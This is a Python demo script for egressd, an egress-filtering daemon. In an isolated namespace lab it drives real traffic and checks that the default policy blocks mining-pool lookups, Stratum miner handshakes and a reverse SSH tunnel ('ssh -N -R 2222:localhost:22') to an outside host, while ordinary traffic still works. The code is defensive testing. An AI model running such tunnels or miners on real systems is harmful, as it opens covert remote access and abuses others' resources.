"""The demo (``make run``, ``python -m egressd_lab.demo``): the daemon on real traffic, step by step.

Why a demo that runs real programs: the first thing anyone evaluating egressd wants to see
is ``ssh -R`` and a miner dying while curl and a 20 MB download carry on, and *why* — the
rule and the evidence from the event log. Everything happens in a lab (two network
namespaces on documentation addresses, ``lab/egressd_lab/netns.py``): the host's own traffic
and firewall are never touched, and the lab is removed on every exit, Ctrl-C included.

Each step prints what is tried, what the program saw (and how fast a block was), and the
egressd events for that step as the daemon wrote them. The exit code says whether every
step behaved as the shipped default policy intends (0) or not (1, naming the steps).
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from types import FrameType
from typing import Any

from rich.console import Console
from rich.markup import escape

from egressd.attribution.render import who_line
from egressd_lab import peers
from egressd_lab.netns import SERVICES, Lab, LabError

TOOLS = ("ip", "iptables", "ip6tables", "ss", "ssh", "ssh-keygen", "/usr/sbin/sshd", "openssl", "curl", "dig")
TOOLS_EXTRA = ("dnsmasq", "ncat")
APT_HINT = "apt install iproute2 iptables openssh-client openssh-server openssl curl dnsutils dnsmasq-base ncat"
BULK_BYTES = 20 * 1024 * 1024


@dataclass
class Outcome:
    """A step's result from the program's point of view."""

    worked: bool
    detail: str
    seconds: float


@dataclass
class Step:
    title: str
    command: str  # what the reader would type, shown before it runs
    expect: str  # "works" or "blocked"
    run: Callable[[], Outcome]
    dest: tuple[str, int]  # the flow whose events explain the step
    rule: str | None = None  # for "blocked": the default policy's rule that must decide
    events: list[dict[str, Any]] = field(default_factory=list)


class Demo:
    def __init__(self, con: Console, lab: Lab, lp: peers.LabPeers, d: peers.Egressd) -> None:
        self.con = con
        self.lab = lab
        self.lp = lp
        self.d = d

    # -- running programs in the node ------------------------------------------------------
    def node(self, argv: list[str], timeout: float = 20.0) -> tuple[subprocess.CompletedProcess[str], float]:
        t = time.monotonic()
        try:
            p = self.lab.run_node(argv, timeout=timeout)
        except subprocess.TimeoutExpired:
            p = subprocess.CompletedProcess(argv, 124, "", f"no result within {timeout:g} s")
        return p, time.monotonic() - t

    @staticmethod
    def _why(p: subprocess.CompletedProcess[str]) -> str:
        lines = (p.stderr or p.stdout).strip().splitlines()
        return lines[-1] if lines else f"exit {p.returncode}"

    def dig(self, name: str) -> Outcome:
        p, dt = self.node(["dig", f"@{SERVICES['dns'][0]}", name, "A", "+short", "+time=1", "+tries=1"])
        answer = p.stdout.strip()
        ok = p.returncode == 0 and bool(answer) and not answer.startswith(";")
        return Outcome(ok, f"{name} -> {answer}" if ok else self._why(p), dt)

    def https(self, name: str, addr: str) -> Outcome:
        argv = ["curl", "-sS", "-k", "--noproxy", "*", "--max-time", "5", "--resolve", f"{name}:443:{addr}"]
        p, dt = self.node([*argv, "-o", "/dev/null", "-w", "%{http_code}", f"https://{name}/"])
        ok = p.returncode == 0 and p.stdout == "200"
        return Outcome(ok, "HTTP 200" if ok else self._why(p), dt)

    def ssh(self, argv: list[str]) -> Outcome:
        p, dt = self.node(argv, timeout=30)
        ok = p.returncode == 0
        return Outcome(ok, f"it printed {p.stdout.strip()!r}" if ok else self._why(p), dt)

    def tunnel(self, argv: list[str], port: int, wait: float = 5.0) -> Outcome:
        """``ssh -N -R port:...``: it works if the far side ends up listening on ``port``.

        A tunnel that works never exits on its own, so it is ended here (by pid) either way.
        """
        t = time.monotonic()
        p = self.lab.spawn("node", argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        try:
            while p.poll() is None and time.monotonic() - t < wait:
                if peers.listening(self.lab, "inet", port):
                    return Outcome(True, f"the tunnel is up: the far side listens on {port}", time.monotonic() - t)
                time.sleep(0.05)
        finally:
            self.lab.stop(p)
        dt = time.monotonic() - t
        assert p.stderr is not None
        err = p.stderr.read().decode(errors="replace").strip().splitlines()
        return Outcome(False, err[-1] if err else f"exit {p.returncode}", dt)

    def stratum(self, port: int) -> Outcome:
        """One miner handshake; the time is the client's own (connect to failure), not Python's start-up."""
        pool = self.lp.pool("v1", port)
        mark = pool.mark()
        argv = [peers.PY, "-m", "egressd_lab.stratum", "client", "--connect", f"{SERVICES['pool'][0]}:{port}"]
        p, dt = self.node([*argv, "--variant", "v1", "--timeout", "5"])
        try:
            rep = json.loads(p.stdout.strip().splitlines()[-1])
            dt, error = float(rep["elapsed"]), str(rep.get("error") or "")
        except (ValueError, IndexError, KeyError, TypeError):
            error = self._why(p)
        time.sleep(0.1)  # let the pool log what it got
        got = len(pool.requests(mark))
        if p.returncode == 0:
            return Outcome(True, f"handshake complete; the pool read {got} requests", dt)
        return Outcome(False, f"{error}; the pool read {got} complete requests", dt)

    def bulk(self) -> Outcome:
        out = self.lp.tmp / "download.bin"
        url = f"http://{SERVICES['bulk'][0]}:{peers.BULK_PORT}/{self.lp.bulk.path.name}"
        before = self.d.status()["engine"]["packets"]
        p, dt = self.node(["curl", "-sS", "--noproxy", "*", "--max-time", "30", "-o", str(out), url], timeout=40)
        judged = self.d.status()["engine"]["packets"] - before
        if p.returncode != 0:
            return Outcome(False, self._why(p), dt)
        data = out.read_bytes()
        out.unlink()
        intact = hashlib.sha256(data).hexdigest() == self.lp.bulk.sha256
        mbps = len(data) * 8 / dt / 1e6
        detail = (
            f"{len(data) / 1e6:.1f} MB at {mbps:,.0f} Mbit/s, sha256 {'intact' if intact else 'CHANGED'}; "
            f"egressd's Python judged {judged} packets of it (the rest was pinned in the kernel)"
        )
        return Outcome(intact and len(data) == self.lp.bulk.size, detail, dt)

    # -- the scenario ---------------------------------------------------------------------------
    def steps(self) -> list[Step]:
        dns = (SERVICES["dns"][0], 53)
        tls, tls_pool = SERVICES["tls"][0], SERVICES["tls_pool"][0]
        evil, bastion, pool = SERVICES["ssh_evil"][0], SERVICES["ssh_allowed"][0], SERVICES["pool"][0]
        bulk = SERVICES["bulk"][0]
        reverse = self.lp.ssh(evil, options=["-N", "-R", "2222:localhost:22", "-o", "ExitOnForwardFailure=yes"])
        return [
            Step("DNS lookup of an ordinary name", f"dig @{dns[0]} tls.example.net", "works",
                 lambda: self.dig("tls.example.net"), dns),
            Step("DNS lookup of a mining pool's name", f"dig @{dns[0]} xmr.nanopool.org", "blocked",
                 lambda: self.dig("xmr.nanopool.org"), dns, "drop-mining-pool-lookups"),
            Step("HTTPS to an ordinary name", f"curl https://tls.example.net/  ({tls})", "works",
                 lambda: self.https("tls.example.net", tls), (tls, 443)),
            Step("TLS to a mining pool's domain", f"curl https://xmr-eu1.nanopool.org/  ({tls_pool})", "blocked",
                 lambda: self.https("xmr-eu1.nanopool.org", tls_pool), (tls_pool, 443), "drop-mining-pool-names"),
            Step("Reverse SSH tunnel to an outside server",
                 f"ssh -N -R 2222:localhost:22 root@{evil}  (an outside server)", "blocked",
                 lambda: self.tunnel(reverse, 2222), (evil, 22), "drop-ssh-unlisted"),
            Step("SSH to the allowlisted bastion", f"ssh root@{bastion} hostname  (in ssh_allowed)", "works",
                 lambda: self.ssh(self.lp.ssh(bastion, "hostname")), (bastion, 22)),
            Step("Stratum miner handshake on the usual port", f"stratum client -> {pool}:3333", "blocked",
                 lambda: self.stratum(3333), (pool, 3333), "drop-mining"),
            Step("Stratum miner handshake hidden on 443", f"stratum client -> {pool}:443", "blocked",
                 lambda: self.stratum(443), (pool, 443), "drop-mining"),
            Step("Bulk download (20 MB over HTTP)", f"curl -o download.bin http://{bulk}/blob.bin", "works",
                 self.bulk, (bulk, peers.BULK_PORT)),
        ]  # fmt: skip

    def run_step(self, i: int, n: int, s: Step) -> bool:
        con = self.con
        con.print(f"\n[bold][{i}/{n}] {escape(s.title)}[/bold]")
        con.print(f"  [dim]$[/dim] {escape(s.command)}")
        mark = self.d.mark()
        out = s.run()
        said = "works" if out.worked else f"blocked in {_took(out.seconds)}"
        colour = "green" if out.worked else "red"
        con.print(f"  [{colour}]{said}[/{colour}]: {escape(out.detail)}")
        s.events = self.d.wait_events(lambda e: (e["dest_ip"], e["dest_port"]) == s.dest, timeout=2.0, since=mark)
        for e in s.events:
            con.print("  " + explain(e))
        if not s.events:
            con.print("  [yellow]egressd wrote no event for this flow[/yellow]")
        problem = judge(s, out)
        if problem:
            con.print(f"  [bold red]✗ not what the default policy intends: {escape(problem)}[/bold red]")
        else:
            con.print("  [green]✓ as the default policy intends[/green]")
        return not problem


def _took(seconds: float) -> str:
    return f"{seconds * 1000:.1f} ms" if seconds < 0.1 else f"{seconds:.2f} s"


def explain(e: dict[str, Any]) -> str:
    """One event as a line: what egressd did, by which rule, on what evidence."""
    action = e.get("action", "?")
    colour = "red" if action == "blocked" else "green"
    text = f"egressd: [{colour}]{action}[/{colour}] by rule [bold]{escape(str(e.get('rule')))}[/bold]"
    if e.get("would_drop"):
        text += " (monitor mode: would drop)"
    det = e.get("detection")
    if det:
        ev = str(det.get("evidence", ""))
        ev = ev if len(ev) <= 90 else ev[:87] + "..."
        text += f", detection [bold]{escape(str(det.get('kind')))}[/bold]: {escape(ev)}"
    elif e.get("domain"):
        text += f", domain {escape(str(e['domain']))}"
    return text + f" [dim]({escape(str(e.get('reason')))})[/dim]" + who_line(e)


def judge(s: Step, out: Outcome) -> str:
    """What differed from the default policy's intent; empty when the step behaved as intended."""
    if s.expect == "works":
        if not out.worked:
            return f"expected it to work; {out.detail}"
        if any(e.get("action") == "blocked" for e in s.events):
            return "an event says blocked"
        return ""
    if out.worked:
        return "expected egressd to block it, and it worked"
    blocked = [e for e in s.events if e.get("action") == "blocked"]
    if not blocked:
        return "the program failed, but egressd wrote no 'blocked' event for it"
    if s.rule and all(e.get("rule") != s.rule for e in blocked):
        return f"blocked by {blocked[0].get('rule')}, expected {s.rule}"
    return ""


# -- set-up and clean-up -------------------------------------------------------------------------
def _missing_tools() -> list[str]:
    return [t for t in (*TOOLS, *TOOLS_EXTRA) if shutil.which(t) is None]


def _on_sigterm(signum: int, frame: FrameType | None) -> None:
    raise KeyboardInterrupt  # unwind like Ctrl-C: the lab is removed on the way out


@contextlib.contextmanager
def _terminate_like_ctrl_c() -> Iterator[None]:
    old = signal.signal(signal.SIGTERM, _on_sigterm)
    try:
        yield
    finally:
        signal.signal(signal.SIGTERM, old)


@contextlib.contextmanager
def _uninterruptible() -> Iterator[None]:
    """A second Ctrl-C during the clean-up must not leave half a lab behind."""
    old = {sig: signal.signal(sig, signal.SIG_IGN) for sig in (signal.SIGINT, signal.SIGTERM)}
    try:
        yield
    finally:
        for sig, handler in old.items():
            signal.signal(sig, handler)


def run_demo(policy: str | None, keep: bool) -> int:
    """Run the scripted scenario; 0 all as the default policy intends, 1 not, 2 cannot run."""
    con = Console(highlight=False)
    err = Console(stderr=True, highlight=False)
    if os.geteuid() != 0:
        err.print(
            "demo: needs root: it creates network namespaces and installs iptables rules in them "
            "(run it with sudo; the host's own network is not touched)"
        )
        return 2
    missing = _missing_tools()
    if missing:
        err.print(f"demo: missing programs: {', '.join(missing)} ({APT_HINT})")
        return 2
    from egressd.paths import default_policy
    from egressd.policy import PolicyError, load_policy

    try:
        pol = Path(policy) if policy else default_policy()
        load_policy(pol)
    except (PolicyError, OSError) as e:
        err.print(f"demo: the policy does not load:\n{escape(str(e))}")
        return 2

    t0 = time.monotonic()
    tmp = Path(tempfile.mkdtemp(prefix="egressd-demo-"))
    lab = Lab(f"egdemo{os.getpid() % 10000}")
    kept = False
    results: list[tuple[Step, bool]] = []
    try:
        with _terminate_like_ctrl_c():
            con.print(
                f"[bold]egressd demo[/bold]: namespaces [cyan]{lab.node}[/cyan] (the training node) and "
                f"[cyan]{lab.inet}[/cyan] (the internet), documentation addresses only"
            )
            lab.create()
            lp = peers.start_lab_peers(lab, tmp, bulk_bytes=BULK_BYTES)
            con.print(
                "peers up in the internet namespace: sshd, dnsmasq, TLS servers, an HTTP server, "
                "an HTTP proxy, Stratum pools"
            )
            d = peers.start_egressd(lab, tmp, pol)
            con.print(
                f"[bold]egressd run[/bold] in {lab.node} (pid {d.proc.pid}), policy {escape(str(pol))}, "
                f"events -> {d.events_path}"
            )
            demo = Demo(con, lab, lp, d)
            steps = demo.steps()
            for i, s in enumerate(steps, 1):
                results.append((s, demo.run_step(i, len(steps), s)))
            con.print(f"\n[bold][{len(steps) + 1}/{len(steps) + 1}] egressd status[/bold]")
            st = lab.run_node([*peers.egressd_argv(), "status", "--socket", str(d.socket)], timeout=10)
            con.out(st.stdout.rstrip() or st.stderr.rstrip(), highlight=False)
            if keep:
                kept = True
                _print_keep(con, lab, d, tmp)
    except KeyboardInterrupt:
        err.print("\ndemo: interrupted; removing the lab")
        kept = False
        return 130
    except (peers.PeerError, LabError, subprocess.TimeoutExpired, OSError) as e:
        err.print(f"demo: {escape(str(e))}")
        return 2
    finally:
        if not kept:
            with _uninterruptible():
                lab.close()
                shutil.rmtree(tmp, ignore_errors=True)
    bad = [s.title for s, ok in results if not ok]
    took = time.monotonic() - t0
    if bad:
        con.print(f"\n[bold red]{len(bad)} step(s) did not behave as the default policy intends:[/bold red]")
        for title in bad:
            con.print(f"  - {escape(title)}")
        return 1
    con.print(
        f"\n[bold green]all {len(results)} steps behaved as the default policy intends[/bold green] ({took:.1f} s)"
    )
    if not kept:
        con.print("lab removed: namespaces deleted, every process ended, no rule left behind")
    return 0


def _print_keep(con: Console, lab: Lab, d: peers.Egressd, tmp: Path) -> None:
    pids = " ".join(str(p.pid) for p in lab.procs)
    con.print(
        f"\n[bold]--keep[/bold]: the lab stays up. Try [cyan]ip netns exec {lab.node} bash[/cyan]; "
        f"events in {d.events_path}. To remove it: [cyan]kill {pids}; sleep 1; ip netns del {lab.node}; "
        f"ip netns del {lab.inet}; rm -r {tmp}[/cyan]"
    )


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(
        prog="python -m egressd_lab.demo",
        description=(
            "Creates a 'node' and an 'internet' network namespace on documentation addresses, starts "
            "`egressd run` in the node, drives real traffic through it (ssh -R to a real sshd, a Stratum "
            "handshake, HTTPS, DNS, a bulk transfer) and shows what egressd did and why. The host's own "
            "traffic is never touched. Needs root."
        ),
    )
    ap.add_argument("--policy", metavar="FILE", help="policy for the demo (default: the shipped default)")
    ap.add_argument("--keep", action="store_true", help="leave the namespaces up after the demo (for poking around)")
    args = ap.parse_args(argv)
    return run_demo(args.policy, keep=args.keep)


if __name__ == "__main__":
    sys.exit(main())
